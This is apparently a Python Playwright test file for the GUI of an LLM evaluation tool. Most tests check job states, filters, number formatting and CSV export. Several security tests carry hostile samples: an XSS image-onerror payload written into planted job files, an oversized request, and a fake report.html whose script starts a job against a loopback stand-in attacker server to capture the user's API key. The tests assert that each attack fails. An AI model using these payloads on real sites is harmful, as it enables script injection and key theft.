"""The GUI as a user starts it: a real server process, real judge jobs against the simulator."""

import json
import os
import socket
import time
import urllib.request
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import coarse
from tests.gui.gui_support import (
    ARTIFACTS,
    GUI_API_KEY,
    LOW_CONTRAST_JS,
    chromium,
    fill_run_form,
    gui_page,
    gui_process,
    make_workspace,
    screenshot,
    wait_for,
)
from touchstone.sim import SimServer


def call(base: str, path: str, body: dict | None = None) -> dict:
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(
        base + path, data=data, method="GET" if body is None else "POST"
    )
    request.add_header("Content-Type", "application/json")
    if body is not None:
        request.add_header("Origin", base)
    with urllib.request.urlopen(request, timeout=10) as response:
        return json.loads(response.read())


def test_runaway_job_fails_visibly_then_good_judge_is_done(tmp_path: Path, sim: SimServer) -> None:
    workdir = make_workspace(tmp_path, sim)
    with gui_process(workdir) as base:
        job = call(base, "/api/runs/tiny/judge", {"config": "judge-runaway.yaml"})["job"]
        state = wait_for(lambda: (s := call(base, f"/api/jobs/{job}"))["state"] != "running" and s)
        assert (state["state"], state["exit_code"]) == ("failed", 1)
        assert "Judge abgebrochen" in state["message"]

        job = call(base, "/api/runs/tiny/judge", {"config": "judge-gut.yaml"})["job"]
        state = wait_for(lambda: (s := call(base, f"/api/jobs/{job}"))["state"] != "running" and s)
        assert (state["state"], state["exit_code"]) == ("done", 0)
        rows = call(base, "/api/runs/tiny")["scorecard"]["rows"]
        assert all(row["n_scored"] == 3 and row["open"] == 0 for row in rows)

    # A restarted GUI still knows both jobs and how they ended.
    with gui_process(workdir) as base:
        jobs = call(base, "/api/runs/tiny")["jobs"]
        assert [j["state"] for j in jobs] == ["done", "failed"]


def test_browser_starts_a_judge_and_sees_the_failed_job(tmp_path: Path, sim: SimServer) -> None:
    from playwright.sync_api import expect

    workdir = make_workspace(tmp_path, sim)
    with gui_page(workdir, width=1280, height=900) as (base, page):
        page.goto(f"{base}/runs/tiny")
        expect(page.get_by_test_id("scorecard")).to_contain_text("sim-gut")
        page.get_by_test_id("config").select_option("judge-runaway.yaml")
        page.get_by_test_id("start-judge").click()
        expect(page.get_by_test_id("job-state")).to_have_text("fehlgeschlagen", timeout=20_000)
        expect(page.get_by_test_id("job-message")).to_contain_text("Judge abgebrochen")
        # The health line the CLI prints (JudgeHealth.summary_de), not a second wording.
        expect(page.get_by_test_id("job-health")).to_contain_text(
            "Fehler nach Art: Frist überschritten: 2"
        )
        health = page.get_by_test_id("job-health")
        expect(health).to_contain_text("offen für einen späteren Durchgang")
        page.screenshot(path=str(ARTIFACTS / "run-page-failed-job.png"), full_page=True)

        page.get_by_test_id("config").select_option("judge-gut.yaml")
        page.get_by_test_id("start-judge").click()
        # On success the page reloads and the scorecard shows every cell scored.
        expect(page.locator("#verdicts tr[data-model]")).to_have_count(6, timeout=20_000)
        page.screenshot(path=str(ARTIFACTS / "run-page-done.png"), full_page=True)


def test_a_200_mb_post_is_refused_before_it_is_read(tmp_path: Path, sim: SimServer) -> None:
    workdir = make_workspace(tmp_path, sim)
    with gui_process(workdir) as base:
        host, port = base.removeprefix("http://").split(":")
        with socket.create_connection((host, int(port)), timeout=10) as conn:
            conn.sendall(
                b"POST /api/runs HTTP/1.1\r\n"
                + f"Host: 127.0.0.1:{port}\r\nOrigin: {base}\r\n".encode()
                + b"Content-Type: application/json\r\nContent-Length: 209715200\r\n\r\n{"
            )
            started = time.monotonic()
            reply = conn.recv(4096).decode("latin-1")
        assert reply.startswith("HTTP/1.1 413"), reply
        assert time.monotonic() - started < coarse(1)


XSS = '<img src=x onerror="window.__xss=(window.__xss||0)+1">'


def plant_hostile_jobs(workdir: Path) -> None:
    """Job files as an attacker would write them into a run directory."""
    jobs = workdir / "runs" / "tiny" / "jobs"
    jobs.mkdir(exist_ok=True)
    finished = {
        "id": XSS,
        "run": XSS,
        "command": ["-m", "touchstone", XSS],
        "state": "failed",
        "exit_code": XSS,
        "message": XSS,
    }
    (jobs / "20260101-000000-aaaaaa.json").write_text(json.dumps(finished), encoding="utf-8")
    # Its end as a judge-check or a re-judge would report it: a card and an agreement.
    card = {
        "judge_model": XSS,
        "suitable": XSS,
        "verdict": XSS,
        "criteria": [{"name": XSS, "figure": XSS, "passed": False}, XSS],
    }
    done = {"event": "done", "card": card, "agreement": {"summary": XSS}, "message": XSS}
    (jobs / "20260101-000000-aaaaaa.events").write_text(json.dumps(done) + "\n", encoding="utf-8")
    # A job whose record says "running" (the GUI finds no such process and settles it from its
    # events), with hostile events: stage, totals and health reach the live job box.
    running = {**finished, "state": "running", "pid": os.getpid()}
    (jobs / "20260101-000001-bbbbbb.json").write_text(json.dumps(running), encoding="utf-8")
    events = [
        {"event": "start", "stage": XSS, "total": XSS, "todo": 3},
        {"event": "aborted", "message": XSS, "health": {"calls": XSS, "summary": XSS}},
    ]
    (jobs / "20260101-000001-bbbbbb.events").write_text(
        "".join(json.dumps(e) + "\n" for e in events), encoding="utf-8"
    )


def test_the_pages_show_hostile_run_dir_text_as_text_without_console_errors(
    tmp_path: Path, sim: SimServer
) -> None:

    workdir = make_workspace(tmp_path, sim)
    plant_hostile_jobs(workdir)
    problems: list[str] = []
    with gui_page(workdir, width=1280, height=900) as (base, page):
        page.on("dialog", lambda dialog: problems.append(f"dialog: {dialog.message}"))
        page.on("console", lambda m: m.type == "error" and problems.append(m.text))
        page.on("pageerror", lambda exc: problems.append(str(exc)))
        page.on(
            "response",
            lambda r: r.status >= 400 and problems.append(f"{r.status} {r.url}"),
        )
        for path in ("/", "/runs/tiny"):
            page.goto(base + path)
            page.wait_for_timeout(1000)
            assert page.evaluate("window.__xss") is None
            # Every text readable (WCAG 4.5:1), the header's grey included.
            assert page.evaluate(LOW_CONTRAST_JS) == [], path
        # The live job box renders the hostile job from the API, as text.
        page.evaluate("judgeBox.follow('20260101-000000-aaaaaa')")
        page.wait_for_timeout(1000)
        assert page.evaluate("window.__xss") is None
        box = page.locator("#current-job").inner_text()
        assert "onerror" in box and "Judge-Check: <img" in box  # the card, as text
        # An older job is one collapsed line; its agreement and the CLI's words behind it.
        jobs = page.locator("[data-old-job='20260101-000000-aaaaaa']").text_content() or ""
        assert jobs.count("onerror") >= 2  # agreement, message
        page.evaluate("judgeBox.follow('20260101-000001-bbbbbb')")
        page.wait_for_timeout(1000)
        assert page.evaluate("window.__xss") is None
        live = page.locator("#current-job").inner_text()
        assert live.count("onerror") >= 2, live  # the message and the health's summary
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / "run-page-hostile-jobs.png"), full_page=True)
    assert problems == []


def test_the_start_button_waits_for_the_job_and_the_cancel_button_keeps_focus(
    workspace: Path,
) -> None:
    from playwright.sync_api import expect

    with gui_page(workspace, width=1280, height=900) as (base, page):
        polls: list[str] = []
        page.on("request", lambda r: polls.append(r.url) if "/api/jobs/" in r.url else None)
        page.goto(f"{base}/runs/tiny")
        page.get_by_test_id("config").select_option("judge-haengt.yaml")
        page.get_by_test_id("start-judge").click()
        expect(page.get_by_test_id("job-state")).to_have_text("läuft", timeout=20_000)
        # No second job while one runs: both start buttons wait.
        expect(page.get_by_test_id("start-judge")).to_be_disabled()
        expect(page.get_by_test_id("check-judge")).to_be_disabled()
        cancel = page.get_by_test_id("cancel-job")
        cancel.focus()
        polls.clear()
        page.wait_for_timeout(2000)  # about four refreshes of the job box
        assert page.evaluate("document.activeElement.dataset.testid") == "cancel-job"
        # One polling loop (every 0.5 s), not two fighting over the box.
        assert 1 <= len(polls) <= 6, polls
        # A reload finds the running job and follows it in the same, single box.
        page.reload()
        expect(page.get_by_test_id("job-state")).to_have_count(1)
        expect(page.get_by_test_id("start-judge")).to_be_disabled()
        polls.clear()
        page.wait_for_timeout(2000)
        assert 1 <= len(polls) <= 6, polls
        page.get_by_test_id("cancel-job").click()
        expect(page.get_by_test_id("job-state")).to_have_text("abgebrochen", timeout=20_000)
        expect(page.get_by_test_id("start-judge")).to_be_enabled()


def test_a_failed_run_job_keeps_its_message_and_the_form(page: Any, sim: SimServer) -> None:
    from playwright.sync_api import expect

    fill_run_form(page, "tippfehler", sim.base_url, "sim-gut, sim-gutt", "none")
    page.get_by_test_id("start-run").click()
    expect(page.get_by_test_id("job-state")).to_have_text("fehlgeschlagen", timeout=30_000)
    expect(page.get_by_test_id("job-message")).to_contain_text("sim-gutt")
    page.wait_for_timeout(2000)  # no reload wipes it
    expect(page.get_by_test_id("job-message")).to_contain_text("Meinten Sie „sim-gut“?")
    assert page.input_value("input[name=models]") == "sim-gut, sim-gutt"
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "overview-failed-run.png"), full_page=True)


def test_the_run_page_filters_in_the_url_and_opens_a_prompt_side_by_side(
    tmp_path: Path, sim: SimServer
) -> None:
    from playwright.sync_api import expect

    from touchstone.judge.config import JudgeConfig, JudgeEndpoint
    from touchstone.stages.judge.judge import execute_judge
    from touchstone.stages.view import load_run, write_report

    workdir = make_workspace(tmp_path, sim)
    run = workdir / "runs" / "tiny"
    execute_judge(run, config=JudgeConfig(JudgeEndpoint(sim.base_url), "sim-judge"))
    view = load_run(run)
    write_report(view, view.scorecard())
    ARTIFACTS.mkdir(exist_ok=True)
    with gui_process(workdir) as base, chromium() as browser:
        page = browser.new_page(viewport={"width": 1280, "height": 900})
        page.goto(f"{base}/runs/tiny")
        rows = page.locator("#verdicts tbody tr")
        expect(rows).to_have_count(6)
        expect(page.get_by_test_id("matrix")).to_contain_text("▲")
        page.select_option("#filters select[name=model]", "sim-schwach")
        expect(rows).to_have_count(3)
        assert "model=sim-schwach" in page.url
        page.get_by_role("button", name="Wertung").click()
        expect(page.locator("th[aria-sort=ascending]")).to_contain_text("Wertung")
        page.screenshot(path=str(ARTIFACTS / "run-page-desktop.png"), full_page=True)
        # The filter survives a reload: it lives in the URL.
        page.reload()
        expect(rows).to_have_count(3)
        assert page.input_value("#filters select[name=model]") == "sim-schwach"
        page.locator("#verdicts a", has_text="S1").first.click()
        expect(page.get_by_test_id("prompt-text")).to_contain_text("Neue IBAN per Mail")
        expect(page.get_by_test_id("answer")).to_have_count(2)
        boxes = [page.get_by_test_id("answer").nth(i).bounding_box() for i in (0, 1)]
        assert boxes[0] and boxes[1] and boxes[0]["y"] == boxes[1]["y"]  # side by side
        page.screenshot(path=str(ARTIFACTS / "prompt-page-desktop.png"), full_page=True)
        phone = browser.new_page(viewport={"width": 390, "height": 844})
        for path, name in (
            ("/runs/tiny", "run-page-phone"),
            ("/runs/tiny/prompts/S1", "prompt-page-phone"),
            ("/runs/tiny/report.html", "report-phone"),
            ("/", "overview-phone"),
        ):
            phone.goto(base + path)
            phone.wait_for_timeout(500)
            width = phone.evaluate("document.documentElement.scrollWidth")
            assert width <= 390, (path, width)  # nothing wider than the phone
            phone.screenshot(path=str(ARTIFACTS / f"{name}.png"), full_page=True)
        page.goto(f"{base}/runs/tiny/report.html")
        page.screenshot(path=str(ARTIFACTS / "report-desktop.png"), full_page=True)


def test_judge_check_and_agreement_in_the_browser(tmp_path: Path, sim: SimServer) -> None:
    from playwright.sync_api import expect

    from touchstone.judge.config import JudgeConfig, JudgeEndpoint
    from touchstone.stages.judge.judge import execute_judge

    workdir = make_workspace(tmp_path, sim)
    execute_judge(
        workdir / "runs" / "tiny", config=JudgeConfig(JudgeEndpoint(sim.base_url), "sim-judge")
    )
    with gui_page(workdir, width=1280, height=900) as (base, page):
        page.goto(f"{base}/runs/tiny")
        page.get_by_test_id("config").select_option("judge-leichtglaeubig.yaml")
        page.get_by_test_id("check-judge").click()
        expect(page.get_by_test_id("start-judge")).to_be_disabled()
        expect(page.get_by_test_id("job-state")).to_have_text("fertig", timeout=20_000)
        card = page.locator("#current-job").get_by_test_id("fitness-card")
        expect(card).to_contain_text("✗")
        expect(card).to_contain_text("Nicht-Antworten unten")
        expect(page.locator("#current-job")).to_contain_text("Urteil: ungeeignet")
        expect(page.get_by_test_id("start-judge")).to_be_enabled()
        page.screenshot(path=str(ARTIFACTS / "judge-check-desktop.png"), full_page=True)

        page.get_by_test_id("config").select_option("judge-gut.yaml")
        page.fill("input[name=model]", "sim-constant")
        page.get_by_test_id("rejudge").select_option("all")
        page.get_by_test_id("start-judge").click()
        # Done: the page reloads, and the finished job shows the agreement.
        expect(page.get_by_test_id("agreement")).to_contain_text(
            "Übereinstimmung mit dem bisherigen Judge (sim-judge)", timeout=20_000
        )
        page.set_viewport_size({"width": 390, "height": 844})
        page.screenshot(path=str(ARTIFACTS / "judge-check-phone.png"), full_page=True)


class Listener:
    """A loopback HTTP server standing in for an attacker's: it records every request's
    Authorization header and answers 404."""

    def __init__(self) -> None:
        import http.server
        import threading

        self.authorizations: list[str] = []
        heard = self.authorizations

        class Handler(http.server.BaseHTTPRequestHandler):
            def _record(self) -> None:
                heard.append(self.headers.get("Authorization") or "")
                self.send_error(404)

            do_GET = do_POST = _record

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/v1"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


# The attack of issue 21, as a shared run dir's report.html carries it: read the overview
# for a pack path, then start a run job against the attacker's server from the GUI's origin.
ATTACK_HTML = """<!DOCTYPE html><html><head><title>Bericht</title></head><body>
<h1>Gefälschter Bericht</h1>
<script>
(async () => {
  const home = await (await fetch("/")).text();
  const pack = (home.match(/packs\\/[\\w.-]+\\.yaml/) || ["packs/tiny.yaml"])[0];
  const reply = await fetch("/api/runs", {
    method: "POST",
    headers: {"Content-Type": "application/json"},
    body: JSON.stringify({name: "gekapert", pack, base_url: "LISTENER",
                          models: ["m"], variants: ["none"]}),
  });
  document.body.dataset.attack = String(reply.status);
})();
</script></body></html>
"""


def test_a_shared_run_dirs_report_html_cannot_start_a_job_with_the_users_key(
    tmp_path: Path, sim: SimServer
) -> None:
    from playwright.sync_api import expect

    workdir = make_workspace(tmp_path, sim)
    listener = Listener()
    run = workdir / "runs" / "tiny"
    report = run / "report.html"
    report.write_text(ATTACK_HTML.replace("LISTENER", listener.url), encoding="utf-8")
    future = time.time() + 86_400  # "newer than the data": the GUI took it as current
    os.utime(report, (future, future))
    try:
        with gui_process(workdir) as base, chromium() as browser:
            page = browser.new_page()
            page.goto(base + "/")
            page.locator("tr", has_text="tiny").get_by_role("link", name="Bericht").click()
            page.wait_for_load_state("load")
            page.wait_for_timeout(1500)  # time for the script's two requests
            started = (workdir / "runs" / "gekapert").exists()
            # A started job reaches the listener only after its process is up: wait for it
            # then, so that a failure shows what the attacker got.
            if started:
                wait_for(lambda: listener.authorizations, timeout=coarse(15))
            assert not any(GUI_API_KEY in a for a in listener.authorizations)
            assert not started and listener.authorizations == []
            assert page.evaluate("document.body.dataset.attack") is None
            # What the link shows is touchstone's own report of the run.
            expect(page.locator("h1")).to_contain_text("touchstone-Bericht")
            expect(page.locator("body")).not_to_contain_text("Gefälschter Bericht")
            assert call(base, "/api/runs")[0]["name"] == "tiny"
    finally:
        listener.close()


@pytest.mark.parametrize("page", [1280, 390], indirect=True)
def test_browser_run_form_refuses_other_settings_and_extends_when_ticked(
    page: Any, sim: SimServer
) -> None:
    from playwright.sync_api import expect

    form = fill_run_form(page, "tiny", sim.base_url, "sim-gut, sim-schwach", "none")
    form.locator("[name=repeats]").fill("2")
    page.get_by_test_id("start-run").click()
    box = page.locator("#run-job")
    expect(box).to_contain_text("Wiederholungen: gespeichert 1, verlangt 2")
    expect(box).to_contain_text("Run erweitern")
    screenshot(page, "run-form-refused")

    page.get_by_test_id("extend-run").check()
    page.get_by_test_id("start-run").click()
    # Done: the page reloads and the overview expects the second repeat of both models.
    expect(page.get_by_test_id("runs")).to_contain_text("12 / 12", timeout=20_000)
    screenshot(page, "run-form-extended")


def test_the_job_box_shows_calls_in_flight(tmp_path: Path, sim: SimServer) -> None:
    from playwright.sync_api import expect

    workdir = make_workspace(tmp_path, sim)
    (workdir / "judge-haengt-kurz.yaml").write_text(
        f"endpoint: {{base_url: '{sim.base_url}'}}\nmodel: sim-hang\ncall_timeout_s: 4\n"
        "concurrency: 2\nmax_consecutive_failures: 1\n",
        encoding="utf-8",
    )
    ARTIFACTS.mkdir(exist_ok=True)
    with gui_process(workdir) as base, chromium() as browser:
        for width in (1280, 390):
            page = browser.new_page(viewport={"width": width, "height": 900})
            page.goto(f"{base}/runs/tiny")
            page.get_by_test_id("config").select_option("judge-haengt-kurz.yaml")
            page.get_by_test_id("start-judge").click()
            line = page.get_by_test_id("job-in-flight")
            expect(line).to_contain_text("2 Aufrufe laufen, ältester seit", timeout=20_000)
            expect(line).to_contain_text("(Frist 4\u00a0s)")
            page.screenshot(path=str(ARTIFACTS / f"job-in-flight-{width}.png"), full_page=True)
            # Once the guard stopped the judge, nothing is said to run any more.
            expect(page.get_by_test_id("job-state")).to_have_text("fehlgeschlagen", timeout=20_000)
            expect(line).to_have_text("")
            page.close()


def test_the_browser_formats_numbers_like_german_py_and_exports_the_filtered_csv(
    tmp_path: Path, sim: SimServer
) -> None:
    import csv
    import io

    from playwright.sync_api import expect

    from touchstone import german
    from touchstone.judge.config import JudgeConfig, JudgeEndpoint
    from touchstone.stages.judge.judge import execute_judge

    workdir = make_workspace(tmp_path, sim)
    execute_judge(
        workdir / "runs" / "tiny", config=JudgeConfig(JudgeEndpoint(sim.base_url), "sim-judge")
    )
    with gui_page(workdir, width=1280, height=900) as (base, page):
        page.goto(f"{base}/runs/tiny")
        expect(page.locator("#verdict-count")).to_contain_text("6 Bewertungen")
        # The page's formatter writes what german.py writes.
        samples = [4.85, 16054.5, -0.001, 0.35, -0.12, 1234.0, 0.0, 2.675, -0.125, 1e21]
        for digits in (0, 1, 2):
            shown = page.evaluate(f"(xs) => xs.map((x) => germanNumber(x, {digits}))", samples)
            assert shown == [german.number(x, digits) for x in samples]
        shown = page.evaluate("(xs) => xs.map((x) => germanSigned(x))", samples)
        assert shown == [german.signed(x) for x in samples]
        assert page.evaluate("germanCounted(1, 'Aufruf', 'Aufrufe')") == "1 Aufruf"
        assert page.evaluate("germanCounted(6224, 'Aufruf', 'Aufrufe')") == "6.224 Aufrufe"
        link = page.get_by_test_id("csv-filtered")
        expect(link).to_have_text("alle 6 Bewertungen als CSV")
        # Unfiltered, a second "alle als CSV" would be the same link twice.
        expect(page.get_by_test_id("csv-all")).to_be_hidden()
        # A safety-critical prompt is said in words, not "nein · krit.".
        expect(page.locator("#verdicts")).not_to_contain_text("krit.")
        expect(page.locator("#verdicts")).to_contain_text("(sicherheitskritischer Prompt)")
        page.select_option("#filters select[name=model]", "sim-schwach")
        expect(link).to_have_text("diese 3 Bewertungen als CSV (wie gefiltert)")
        expect(page.get_by_test_id("csv-all")).to_be_visible()
        response = page.request.get(base + str(link.get_attribute("href")))
        text = response.body().decode("utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))
        assert [row["Modell"] for row in rows] == ["sim-schwach"] * 3
        # An empty selection offers no "alle 0 Bewertungen als CSV".
        page.fill("#filters input[name=q]", "nirgends-zu-finden")
        page.press("#filters input[name=q]", "Enter")
        expect(page.locator("#verdict-count")).to_contain_text("0 Bewertungen")
        expect(link).to_be_hidden()
